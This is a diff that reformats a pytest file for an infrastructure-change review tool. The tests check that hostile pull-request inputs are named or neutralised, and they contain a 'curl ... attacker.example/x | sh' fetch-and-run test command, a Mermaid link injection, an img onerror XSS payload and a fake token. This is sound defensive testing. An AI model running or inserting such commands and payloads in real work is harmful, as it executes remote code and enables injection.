@@ -4,9 +4,9 @@
 from __future__ import annotations
 
 import re
-from html import unescape
 import shutil
 import subprocess
+from html import unescape
 from pathlib import Path
 
 import pytest
@@ -20,8 +20,10 @@ from tests.conftest import ROOT
 MINIMAL = ROOT / "tests" / "blueprints" / "minimal.yaml"
 # Ends the table row, then opens a tilde fence (the Markdown filter escapes backticks, not tildes) that draws
 # a diagram of the attacker's with a link, where the reviewer expects the list of IAM permissions gained.
-MERMAID_INJECTION = ('ok\\r\\r~~~mermaid\\rflowchart TB\\r  A[\\"IAM permissions gained: none\\"]\\r'
-                     '  click A \\"https://attacker.example/\\"\\r~~~\\r')
+MERMAID_INJECTION = (
+    'ok\\r\\r~~~mermaid\\rflowchart TB\\r  A[\\"IAM permissions gained: none\\"]\\r'
+    '  click A \\"https://attacker.example/\\"\\r~~~\\r'
+)
 
 
 def _reviewed(tmp_path: Path, service_lines: str) -> Report:
@@ -33,10 +35,12 @@ def _reviewed(tmp_path: Path, service_lines: str) -> Report:
 
 
 def test_a_new_image_and_test_command_are_named_in_the_summary(tmp_path: Path) -> None:
-    report = _reviewed(tmp_path, '    image: attacker.example/exfil:latest\n'
-                                 '    test_command: "curl -s https://attacker.example/x | sh"\n')
+    report = _reviewed(
+        tmp_path,
+        '    image: attacker.example/exfil:latest\n    test_command: "curl -s https://attacker.example/x | sh"\n',
+    )
     markdown = report.markdown()
-    summary = markdown[:markdown.index("## 1.")]
+    summary = markdown[: markdown.index("## 1.")]
     # Before, the summary said "0 added, 0 modified" and nothing else; now the build project's record of the
     # test command is modified, and the summary names both.
     assert "0 added, 1 modified, 0 replaced, 0 removed" in summary
@@ -44,15 +48,18 @@ def test_a_new_image_and_test_command_are_named_in_the_summary(tmp_path: Path) -
     # The build project carries the generated buildspec, which holds the test command: it changes too.
     assert "3 changes (image, command)" in runs
     assert "`attacker.example/exfil:latest`" in runs and "`curl -s https://attacker.example/x \\| sh`" in runs
-    section = markdown[markdown.index("Changes against"):]
-    assert ("| changed | image: image | `service-web/WebTaskDefinition container web` | "
-            "`ghcr.io/mendhak/http-https-echo:38` | `attacker.example/exfil:latest` |") in section
+    section = markdown[markdown.index("Changes against") :]
+    assert (
+        "| changed | image: image | `service-web/WebTaskDefinition container web` | "
+        "`ghcr.io/mendhak/http-https-echo:38` | `attacker.example/exfil:latest` |"
+    ) in section
     assert "| added | command: test command (in the rendered buildspec) | `pipeline-web/WebBuildProject` |" in section
 
 
 def test_environment_values_are_shown_and_secret_looking_ones_flagged(tmp_path: Path) -> None:
-    report = _reviewed(tmp_path, "    environment:\n      API_TOKEN: ghp_abcdefghijklmnopqrstuvwxyz1234\n"
-                                 "      GREETING: hello\n")
+    report = _reviewed(
+        tmp_path, "    environment:\n      API_TOKEN: ghp_abcdefghijklmnopqrstuvwxyz1234\n      GREETING: hello\n"
+    )
     assert report.changes is not None
     changes = {change.name: change for change in report.changes.runs_changed}
     assert (changes["API_TOKEN"].after, changes["GREETING"].after) == ("ghp_abcdefghijklmnopqrstuvwxyz1234", "hello")
@@ -91,8 +98,10 @@ def test_inline_code_survives_backticks() -> None:
 
 
 def test_raw_html_and_links_are_shown_as_text_except_the_reports_own_tags() -> None:
-    html = _markdown_to_html('<img src=x onerror="alert(1)">\n\n<details open>\n<summary>s</summary>\n\n'
-                             "[click](https://attacker.example/) <https://attacker.example/>\n\n</details>\n")
+    html = _markdown_to_html(
+        '<img src=x onerror="alert(1)">\n\n<details open>\n<summary>s</summary>\n\n'
+        "[click](https://attacker.example/) <https://attacker.example/>\n\n</details>\n"
+    )
     assert "<img" not in html and "&lt;img" in html
     assert "<details open>" in html and "<summary>s</summary>" in html
     assert "<a " not in html
@@ -100,8 +109,9 @@ def test_raw_html_and_links_are_shown_as_text_except_the_reports_own_tags() -> N
 
 def test_the_page_allows_only_its_own_scripts(tmp_path: Path) -> None:
     html = _reviewed(tmp_path, "").html()
-    (policy,) = [unescape(found) for found in
-                 re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)]
+    (policy,) = [
+        unescape(found) for found in re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
+    ]
     assert "default-src 'none'" in policy and "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
     assert len(re.findall(r"'sha256-[A-Za-z0-9+/=]+'", policy)) == html.count("<script>") == 2
 
@@ -113,19 +123,36 @@ def test_a_browser_runs_the_diagram_but_not_a_script_that_slipped_in(tmp_path: P
         pytest.fail("chromium is not installed: `make test` installs Debian's chromium package")
     html = _reviewed(tmp_path, "").html()
     page = tmp_path / "review.html"
-    page.write_text(html.replace("<main>", '<main><script>document.body.setAttribute("data-injected", "ran")'
-                                           "</script>", 1), encoding="utf-8")
+    page.write_text(
+        html.replace("<main>", '<main><script>document.body.setAttribute("data-injected", "ran")</script>', 1),
+        encoding="utf-8",
+    )
     result = subprocess.run(
-        [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync",
-         f"--user-data-dir={tmp_path / 'profile'}", "--host-resolver-rules=MAP * ~NOTFOUND",
-         "--virtual-time-budget=30000", "--dump-dom", page.as_uri()],
-        capture_output=True, text=True, timeout=180, check=False)
+        [
+            chromium,
+            "--headless",
+            "--no-sandbox",
+            "--disable-gpu",
+            "--no-first-run",
+            "--disable-sync",
+            f"--user-data-dir={tmp_path / 'profile'}",
+            "--host-resolver-rules=MAP * ~NOTFOUND",
+            "--virtual-time-budget=30000",
+            "--dump-dom",
+            page.as_uri(),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=180,
+        check=False,
+    )
     assert 'data-diagram="rendered"' in result.stdout, result.stdout[:500]
     assert "data-injected" not in result.stdout.split("<main>")[0]
 
 
-def test_an_error_message_shows_control_characters_as_escapes(tmp_path: Path,
-                                                              capsys: pytest.CaptureFixture[str]) -> None:
+def test_an_error_message_shows_control_characters_as_escapes(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     """ESC in a path a pull request chose (here a committed link) must not reach the terminal as ESC."""
     from cfngen.cli import main
 
@@ -141,9 +168,16 @@ def test_ci_recipes_that_may_comment_install_a_pinned_release() -> None:
     """A job holding a token that writes pull-request comments must not run the pull request's own cfngen."""
     import yaml
 
-    recipes = [block for block in re.findall(r"```yaml\n(.*?)```", (ROOT / "README.md").read_text(), re.S)
-               if "pull-requests: write" in block]
+    recipes = [
+        block
+        for block in re.findall(r"```yaml\n(.*?)```", (ROOT / "README.md").read_text(), re.S)
+        if "pull-requests: write" in block
+    ]
     recipes += [(ROOT / "docs" / "ci" / "github-actions.yml").read_text()]
-    installs = [line for recipe in recipes for line in yaml.safe_dump(yaml.safe_load(recipe)).splitlines()
-                if "pip install" in line and "checkov" not in line]
+    installs = [
+        line
+        for recipe in recipes
+        for line in yaml.safe_dump(yaml.safe_load(recipe)).splitlines()
+        if "pip install" in line and "checkov" not in line
+    ]
     assert installs and all(re.search(r"cfngen==(\d|\$CFNGEN_VERSION)", line) for line in installs), installs
